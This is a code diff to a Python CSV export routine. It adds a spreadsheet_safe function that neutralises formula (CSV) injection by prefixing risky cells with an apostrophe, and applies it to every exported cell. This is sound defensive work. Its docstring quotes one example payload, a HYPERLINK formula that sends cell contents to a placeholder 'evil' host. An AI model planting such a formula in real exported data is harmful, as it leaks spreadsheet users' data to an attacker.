@@ -71,15 +71,27 @@ def export_rows(
             }
 
 
+# A cell a spreadsheet would run as a formula (OWASP, "CSV Injection"): = + - @, tab, CR.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: str) -> str:
+    """`value` as a spreadsheet shows it and never runs it: a scraped title such as
+    `=HYPERLINK("http://evil/?"&A1, "Click")` gets a leading apostrophe, as OWASP advises, so
+    Excel, LibreOffice and Google Sheets show the text instead of evaluating it."""
+    return "'" + value if value.startswith(FORMULA_START) else value
+
+
 def flatten(row: dict[str, Any], columns: tuple[str, ...] = COLUMNS) -> dict[str, str]:
-    """One CSV row: lists joined with '; ', mappings as JSON."""
+    """One CSV row: lists joined with '; ', mappings as JSON, every cell spreadsheet-safe."""
     flat: dict[str, str] = {}
     for key in columns:
         value = row[key]
         if isinstance(value, list):
-            flat[key] = "; ".join(value)
+            text = "; ".join(str(part) for part in value)
         elif isinstance(value, dict):
-            flat[key] = json.dumps(value, ensure_ascii=False)
+            text = json.dumps(value, ensure_ascii=False)
         else:
-            flat[key] = "" if value is None else str(value)
+            text = "" if value is None else str(value)
+        flat[key] = spreadsheet_safe(text)
     return flat
